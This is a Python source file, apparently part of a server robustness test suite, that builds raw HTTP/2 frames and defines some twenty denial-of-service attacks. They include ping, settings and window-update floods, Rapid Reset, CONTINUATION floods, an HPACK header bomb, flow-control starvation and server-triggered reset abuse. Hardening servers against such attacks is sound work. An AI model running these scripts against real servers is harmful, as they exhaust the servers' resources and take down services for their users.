"""Attacks over HTTP/2, by frames (RFC 9113 section 6)."""

from __future__ import annotations

import asyncio
import contextlib
import itertools
from collections.abc import Callable

from hostile_site import MIB, Attack, Cut, Hostile, Script
from http1_attacks import SHORT

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, RST_STREAM, SETTINGS, PING, WINDOW_UPDATE, CONTINUATION = 0, 1, 3, 4, 6, 8, 9
END_STREAM, END_HEADERS = 1, 4
# :method GET, :scheme http, :path /, :authority x; then with POST and with /big in their places (RFC 7541).
GET = b"\x82\x86\x84\x41\x01x"
POST = b"\x83\x86\x84\x41\x01x"
GET_BIG = b"\x82\x86\x44\x04/big\x41\x01x"
# A field that the decoder keeps, and one octet that repeats it.
BOMB = b"\x40\x01a\x7f\x80\x1e" + b"b" * 3997
REPEATED = b"\xbe"


def frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
    return len(payload).to_bytes(3, "big") + bytes([kind, flags]) + stream.to_bytes(4, "big") + payload


def setting(identifier: int, value: int) -> bytes:
    return frame(SETTINGS, 0, 0, identifier.to_bytes(2, "big") + value.to_bytes(4, "big"))


START = PREFACE + frame(SETTINGS, 0, 0)
NO_WINDOW = PREFACE + setting(4, 0)


async def flood(hostile: Hostile, first: bytes, piece: bytes, most: int = 200) -> None:
    """Sends `piece` without reading, until the server has had enough of it."""
    await hostile.send(first)
    for _ in range(most):
        try:
            async with asyncio.timeout(5):
                await hostile.send(piece)
        except TimeoutError:
            break
        await asyncio.sleep(0)
    await hostile.hear_out()
    raise Cut


async def pings(hostile: Hostile) -> None:
    await flood(hostile, START, frame(PING, 0, 0, bytes(8)) * 500)


async def settings(hostile: Hostile) -> None:
    await flood(hostile, START, frame(SETTINGS, 0, 0) * 500)


async def windows(hostile: Hostile) -> None:
    await flood(hostile, START, frame(WINDOW_UPDATE, 0, 0, b"\0\0\0\1") * 2000)


async def empty_frames(hostile: Hostile) -> None:
    await flood(hostile, START + frame(HEADERS, END_HEADERS, 1, POST), frame(DATA, 0, 1) * 500)


async def rapid_reset(hostile: Hostile) -> None:
    """CVE-2023-44487."""
    await hostile.send(START)
    with contextlib.suppress(TimeoutError):
        async with asyncio.timeout(10):
            for stream in itertools.count(1, 2):
                await hostile.send(
                    frame(HEADERS, END_HEADERS | END_STREAM, stream, GET)
                    + frame(RST_STREAM, 0, stream, (8).to_bytes(4, "big"))
                )
                if stream % 200 == 1:
                    await asyncio.sleep(0)
    await hostile.hear_out()
    raise Cut


async def continuations(hostile: Hostile) -> None:
    """CVE-2024-28182: a header block without an end."""
    await flood(
        hostile, START + frame(HEADERS, 0, 1, GET), frame(CONTINUATION, 0, 1, b"\x00\x01a\x01b" * 100) * 10, 2000
    )


async def header_bomb(hostile: Hostile) -> None:
    """A field that is kept once and repeated with one octet each: thousands of times its size when decoded."""
    await hostile.send(START)
    for stream in range(1, 41, 2):
        await hostile.send(frame(HEADERS, END_HEADERS | END_STREAM, stream, GET + BOMB + REPEATED * 10_000))
    await hostile.hear_out()
    raise Cut


async def large_heads(hostile: Hostile) -> None:
    """Header blocks that decode to a few times the limit, as fast as they are answered."""
    await hostile.send(START + frame(HEADERS, END_HEADERS | END_STREAM, 1, GET + BOMB))
    for first in range(3, 100_003, 40):
        blocks = (frame(HEADERS, END_HEADERS | END_STREAM, first + n, GET + REPEATED * 35) for n in range(0, 40, 2))
        await hostile.send(b"".join(blocks))
        if not await hostile.hear(5):
            raise Cut


async def half_a_block(hostile: Hostile) -> None:
    """A header block that stops in the middle."""
    await hostile.send(START + frame(HEADERS, 0, 1, GET[:3]))
    while await hostile.hear(10):
        pass
    raise Cut


async def no_window(hostile: Hostile) -> None:
    """Asks for much on many streams and gives no window for any of it."""
    await hostile.send(
        NO_WINDOW + b"".join(frame(HEADERS, END_HEADERS | END_STREAM, n, GET_BIG) for n in range(1, 41, 2))
    )
    while await hostile.hear(10):
        pass
    raise Cut


async def tiny_windows(hostile: Hostile) -> None:
    """Takes what it asked for octet by octet."""
    await hostile.send(NO_WINDOW + frame(HEADERS, END_HEADERS | END_STREAM, 1, GET_BIG))
    while await hostile.hear(0.1):
        await hostile.send(frame(WINDOW_UPDATE, 0, 1, b"\0\0\0\1"))
    raise Cut


async def too_many_streams(hostile: Hostile) -> None:
    """Opens more than it may, and finishes none of them."""
    await hostile.send(START + b"".join(frame(HEADERS, END_HEADERS, n, POST) for n in range(1, 1001, 2)))
    while await hostile.hear(10):
        pass
    raise Cut


async def garbage(hostile: Hostile) -> None:
    """Frames of no kind on no stream."""
    await flood(hostile, START, frame(0x55, 0xFF, 12345, b"x" * 100) + frame(DATA, 0, 99, b"y"), 20)


# Streams that the server resets itself (CVE-2025-8671): each request begins, and what follows ends it at once.


def window_of_nothing(stream: int) -> bytes:
    return frame(HEADERS, END_HEADERS | END_STREAM, stream, GET) + frame(WINDOW_UPDATE, 0, stream, bytes(4))


def window_overflow(stream: int) -> bytes:
    most = (0x7FFFFFFF).to_bytes(4, "big")
    return frame(HEADERS, END_HEADERS | END_STREAM, stream, GET) + frame(WINDOW_UPDATE, 0, stream, most)


def data_after_the_end(stream: int) -> bytes:
    return frame(HEADERS, END_HEADERS | END_STREAM, stream, GET) + frame(DATA, END_STREAM, stream, b"x")


def more_than_its_length(stream: int) -> bytes:
    return frame(HEADERS, END_HEADERS, stream, POST + b"\x0f\x0d\x011") + frame(DATA, END_STREAM, stream, b"xyz")


def trailers_without_end(stream: int) -> bytes:
    return frame(HEADERS, END_HEADERS, stream, POST) + frame(HEADERS, END_HEADERS, stream, b"\x00\x01a\x01b")


def made_you_reset(fault: Callable[[int], bytes], at_once: int = 50) -> Script:
    async def script(hostile: Hostile) -> None:
        await hostile.send(START)
        with contextlib.suppress(TimeoutError):
            async with asyncio.timeout(10):
                for first in itertools.count(1, 2 * at_once):
                    await hostile.send(b"".join(fault(n) for n in range(first, first + 2 * at_once, 2)))
                    await asyncio.sleep(0)
        await hostile.hear_out()
        raise Cut

    return script


async def settings_of_many(hostile: Hostile) -> None:
    """Each one moves the windows of all streams."""
    many = b"".join(b"\0\4" + (65535 + n % 2).to_bytes(4, "big") for n in range(2000))
    await flood(hostile, START, frame(SETTINGS, 0, 0, many), 200)


async def refused(hostile: Hostile) -> None:
    """Each of these is answered with a reset, which nobody reads."""
    await hostile.send(START + b"".join(frame(HEADERS, END_HEADERS, n, POST) for n in range(1, 201, 2)))
    with contextlib.suppress(TimeoutError):
        async with asyncio.timeout(10):
            for first in itertools.count(201, 1000):
                await hostile.send(
                    b"".join(frame(HEADERS, END_HEADERS | END_STREAM, n, GET) for n in range(first, first + 1000, 2))
                )
                await asyncio.sleep(0)
    await hostile.hear_out()
    raise Cut


CAREFUL = {**SHORT, "http2": {"control_rate": 100, "reset_rate": 100, "max_streams": 100}}

ATTACKS = [
    Attack("h2-ping", pings, 10, CAREFUL, cut=10),
    Attack("h2-settings", settings, 10, CAREFUL, cut=10),
    Attack("h2-window-update", windows, 10, CAREFUL, cut=10),
    Attack("h2-empty-frames", empty_frames, 10, CAREFUL, cut=10),
    Attack("h2-rapid-reset", rapid_reset, 10, CAREFUL, cut=10, memory=32 * MIB),
    Attack("h2-continuation", continuations, 10, CAREFUL, cut=10),
    Attack("h2-header-bomb", header_bomb, 10, CAREFUL, cut=10),
    Attack("h2-large-heads", large_heads, 10, CAREFUL),
    Attack("h2-half-a-block", half_a_block, 100, CAREFUL, cut=100),
    Attack("h2-no-window", no_window, 10, CAREFUL, cut=10, memory=64 * MIB),
    Attack("h2-tiny-windows", tiny_windows, 50, CAREFUL, memory=48 * MIB),
    Attack("h2-too-many-streams", too_many_streams, 20, CAREFUL, cut=20, memory=32 * MIB),
    Attack("h2-garbage", garbage, 20, CAREFUL, cut=20),
    Attack("h2-made-reset-window-0", made_you_reset(window_of_nothing), 10, CAREFUL, cut=10, memory=32 * MIB),
    Attack("h2-made-reset-overflow", made_you_reset(window_overflow), 10, CAREFUL, cut=10, memory=32 * MIB),
    Attack("h2-made-reset-data", made_you_reset(data_after_the_end), 10, CAREFUL, cut=10, memory=32 * MIB),
    Attack("h2-made-reset-length", made_you_reset(more_than_its_length), 10, CAREFUL, cut=10, memory=32 * MIB),
    Attack("h2-made-reset-trailers", made_you_reset(trailers_without_end), 10, CAREFUL, cut=10, memory=32 * MIB),
    Attack("h2-settings-of-many", settings_of_many, 10, CAREFUL, cut=10),
    Attack("h2-refused", refused, 10, CAREFUL, cut=10, memory=32 * MIB),
]
